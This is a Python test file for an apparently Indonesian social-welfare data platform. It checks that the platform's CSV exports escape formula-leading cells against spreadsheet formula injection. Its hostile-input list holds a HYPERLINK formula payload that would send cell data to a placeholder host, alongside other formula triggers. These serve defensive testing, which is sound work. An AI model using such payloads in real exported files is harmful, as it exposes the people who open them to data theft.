"""CSV formula injection (OWASP): every CSV the system writes for people keeps a formula-leading cell as
text (a leading ``'``), through the one shared rule in ``p3ke_platform.tabular.csv_safe``; ordinary
values are written unchanged. The feedback findings CSV is tested through its API in
tests/unit/feedback/test_hostile_files.py."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import pyzipper

from p3ke_audit.service_layer.export import CSV_COLUMNS, csv_lines
from p3ke_delivery.adapters import package
from p3ke_ingest.adapters import reports
from p3ke_platform.tabular.csv_safe import SafeWriter, formula_safe, formula_safe_batch

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+1", "-2", "@SUM(A1:A9)", "\t=1", "\r=1"]
ORDINARY = ["Siti Aminah", "3201010101010001", "a-b", "1+1", "x@y.id", "", " =spaced"]


def test_the_rule() -> None:
    assert [formula_safe(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [formula_safe(v) for v in ORDINARY] == ORDINARY
    assert formula_safe(None) == "" and formula_safe(-2) == "'-2" and formula_safe(3) == "3"
    buffer = io.StringIO()
    SafeWriter(buffer).writerow([*HOSTILE[:4], *ORDINARY[:2], None])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [*("'" + v for v in HOSTILE[:4]), *ORDINARY[:2], ""]


def test_an_arrow_batch_escapes_text_and_keeps_numbers() -> None:
    batch = pa.record_batch({"nama": pa.array([*HOSTILE, *ORDINARY, None]),
                             "angka": pa.array([-2, 1, 0, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15])})
    out = formula_safe_batch(batch)
    assert out.column(0).to_pylist() == [*("'" + v for v in HOSTILE), *ORDINARY, None]
    assert out.column(1).to_pylist() == batch.column(1).to_pylist() and out.schema == batch.schema
    plain = pa.record_batch({"nama": pa.array(ORDINARY)})
    assert formula_safe_batch(plain).column(0) == plain.column(0)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_ingest_findings_csv(tmp_path: Path) -> None:
    values = [*HOSTILE[:4], *ORDINARY[:2]]
    table = pa.table({"file": ["individual"] * 6, "data_row": list(range(1, 7)), "line": list(range(2, 8)),
                      "field": ["nama"] * 6, "code": ["x"] * 6, "severity": ["error"] * 6, "message": values,
                      "fix": values, "message_en": values, "fix_en": values, "value": values},
                     schema=reports.FINDINGS_SCHEMA)
    pq.write_table(table, tmp_path / "f.parquet")
    rows = _rows(b"".join(reports.export(tmp_path / "f.parquet", "csv")).decode())
    expected = [*("'" + v for v in HOSTILE[:4]), *ORDINARY[:2]]
    assert [r["value"] for r in rows] == expected and [r["message"] for r in rows] == expected
    assert [r["fix"] for r in rows] == expected
    assert [r["data_row"] for r in rows] == ["1", "2", "3", "4", "5", "6"]


def test_the_package_csv(tmp_path: Path) -> None:
    """Party 2 opens the package CSV in a spreadsheet: its text cells are escaped like any other CSV; typed
    columns (numbers, dates) are not text and stay as they are (the XLSX next to it is unchanged)."""
    source = tmp_path / "extract.parquet"
    names = [*HOSTILE[:4], *ORDINARY[:2]]
    pq.write_table(pa.table({"nik": [f"320101010101000{i}" for i in range(6)], "nama": names,
                             "desil_kesejahteraan": pa.array([1, 2, 3, 4, 1, 2], pa.int8()),
                             "tanggal_lahir": [dt.date(1990, 1, 1)] * 6}), source)
    built = package.build(source, tmp_path / "package.zip", "Abcde-Fghij-Kmnpq-Rstuv-Wxyz2", base="P",
                          manifest={})
    with pyzipper.AESZipFile(built.path) as zf:
        zf.setpassword(b"Abcde-Fghij-Kmnpq-Rstuv-Wxyz2")
        rows = _rows(zf.read("P.csv").decode())
    assert [r["nama"] for r in rows] == [*("'" + v for v in HOSTILE[:4]), *ORDINARY[:2]]
    assert [r["nik"] for r in rows] == [f"320101010101000{i}" for i in range(6)]
    assert [r["desil_kesejahteraan"] for r in rows] == ["1", "2", "3", "4", "1", "2"]


@pytest.mark.parametrize(("value", "written"), [
    *((v, "'" + v) for v in HOSTILE[:4]), ("  =padded", "'=padded"), ("ordinary", "ordinary")])
def test_the_audit_export_keeps_its_behaviour(value: str, written: str) -> None:
    """The audit export strips each cell, then applies the shared rule (as it did before the rule moved)."""
    row = {"leaf_index": 1, "event_id": "e-1", "event_type": "p3ke.data-access.v1", "source": "ingest",
           "service": "ingest", "actor_org": "kemenkopmk", "actor_subject": "steward-1", "actor_roles": "data-steward",
           "action": "read", "resource_type": "dataset", "resource_id": value, "outcome": "allowed",
           "program": None, "agreement_id": "pks-p3ke-2023", "record_count": 1,
           "occurred_at": dt.datetime(2026, 12, 3, tzinfo=dt.UTC),
           "recorded_at": dt.datetime(2026, 12, 3, tzinfo=dt.UTC),
           "payload": None, "kafka_partition": 0, "envelope": None, "signature": None, "key_id": None}
    [out] = _rows("".join(csv_lines([row])))
    assert list(out) == list(CSV_COLUMNS) and out["resource_id"] == written and out["actor_org"] == "kemenkopmk"
